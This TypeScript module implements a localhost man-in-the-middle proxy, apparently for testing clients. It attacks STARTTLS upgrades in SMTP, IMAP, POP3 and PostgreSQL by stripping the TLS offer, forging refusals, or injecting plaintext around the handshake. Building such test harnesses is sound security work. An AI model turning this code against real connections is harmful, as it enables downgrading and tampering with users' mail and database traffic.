/**
 * The attacker between a client and a server that upgrades to TLS: takes the offer away, or slips plaintext in where a careless
 * client would take it for something that came through TLS.
 */
import { connect, createServer, type Server, type Socket } from "node:net";

/** What the attacker does. */
export type Attack =
  /** Removes the offer, and refuses the order to start TLS. */
  | "strip"
  /** Adds plaintext to the reply after which TLS begins, in one segment. */
  | "inject-with-reply"
  /** Sends it in a segment of its own after that reply. */
  | "inject-after-reply"
  /** Sends it once the ClientHello has come, before the server's answer to that. */
  | "inject-before-handshake";

/** Protocols it understands. */
export type ProxiedProtocol = "smtp" | "imap" | "pop3" | "postgres";

/** How to attack. */
export interface StartTlsProxyOptions {
  /** What is spoken. */
  readonly protocol: ProxiedProtocol;
  /** The real server's port on 127.0.0.1. */
  readonly targetPort: number;
  /** What to do. */
  readonly attack: Attack;
  /** The plaintext to slip in; characters are bytes. */
  readonly injected?: string;
}

/** A running attacker. */
export interface StartTlsProxy extends AsyncDisposable {
  /** Where clients connect to, on 127.0.0.1. */
  readonly port: number;
  /** Everything that clients sent, TLS included; bytes as Latin-1. */
  fromClients(): string;
  /** How many connections had plaintext slipped in. */
  injections(): number;
}

interface Rules {
  /** Whether the client orders TLS to begin. */
  readonly order: (fromClient: string) => boolean;
  /** Takes the offer out of what the server said. */
  readonly strip: (fromServer: string) => string;
  /** The refusal of the order, in the server's name. */
  readonly refuse: (fromClient: string) => string;
}

const SSL_REQUEST = "\x00\x00\x00\x08\x04\xd2\x16\x2f";

const RULES: Readonly<Record<ProxiedProtocol, Rules>> = Object.freeze({
  smtp: {
    order: (text) => /^STARTTLS\r\n/im.test(text),
    strip: (text) => text.replace(/^250-STARTTLS\r\n/gim, ""),
    refuse: () => "502 5.5.1 Command not implemented\r\n",
  },
  imap: {
    order: (text) => /^\S+ STARTTLS\r\n/im.test(text),
    strip: (text) => text.replace(/ STARTTLS\b/g, ""),
    refuse: (text) => `${/^\S+/.exec(text)?.[0]} BAD Unknown command\r\n`,
  },
  pop3: {
    order: (text) => /^STLS\r\n/im.test(text),
    strip: (text) => text.replace(/^STLS\r\n/gim, ""),
    refuse: () => "-ERR Unknown command\r\n",
  },
  postgres: {
    order: (text) => text.startsWith(SSL_REQUEST),
    strip: (text) => text,
    refuse: () => "N",
  },
});

const TLS_HANDSHAKE_RECORD = "\x16";

/** Starts the attacker on 127.0.0.1. */
export async function startStartTlsProxy(options: StartTlsProxyOptions): Promise<StartTlsProxy> {
  const sockets = new Set<Socket>();
  const seen = { text: "", injections: 0 };
  const server = createServer((client) => {
    const target = connect({ host: "127.0.0.1", port: options.targetPort });
    for (const socket of [client, target]) keep(socket, sockets);
    client.on("close", () => target.destroy());
    target.on("close", () => client.destroy());
    attackConnection(options, { client, target, seen });
  });
  const port = await listen(server);
  return {
    port,
    fromClients: () => seen.text,
    injections: () => seen.injections,
    [Symbol.asyncDispose]: () =>
      new Promise((resolve) => {
        for (const socket of sockets) socket.destroy();
        server.close(() => resolve());
      }),
  };
}

interface Connection {
  readonly client: Socket;
  readonly target: Socket;
  readonly seen: { text: string; injections: number };
}

function attackConnection(options: StartTlsProxyOptions, { client, target, seen }: Connection): void {
  const { attack, injected = "" } = options;
  const { order, strip, refuse } = RULES[options.protocol];
  let state: "talking" | "ordered" | "waiting" | "through" = "talking";
  const inject = (before = ""): void => {
    seen.injections++;
    client.write(before + injected, "latin1");
  };
  client.setEncoding("latin1").on("data", (text: string) => {
    seen.text += text;
    if (state === "waiting" && text.startsWith(TLS_HANDSHAKE_RECORD)) {
      inject();
      state = "through";
    }
    if (state !== "talking" || !order(text)) return void target.write(text, "latin1");
    if (attack === "strip") return void client.write(refuse(text), "latin1");
    state = "ordered";
    target.write(text, "latin1");
  });
  target.setEncoding("latin1").on("data", (text: string) => {
    if (state !== "ordered") return void client.write(attack === "strip" ? strip(text) : text, "latin1");
    state = attack === "inject-before-handshake" ? "waiting" : "through";
    if (attack === "inject-with-reply") return inject(text);
    client.write(text, "latin1", () => attack === "inject-after-reply" && inject());
  });
}

function keep(socket: Socket, sockets: Set<Socket>): void {
  sockets.add(socket);
  socket.setNoDelay(true);
  socket.on("close", () => sockets.delete(socket));
  // Broken connections are what this is about.
  socket.on("error", () => socket.destroy());
}

function listen(server: Server): Promise<number> {
  return new Promise((resolve, reject) => {
    server.on("error", reject);
    server.listen(0, "127.0.0.1", () => {
      const address = server.address();
      resolve(typeof address === "object" && address !== null ? address.port : 0);
    });
  });
}
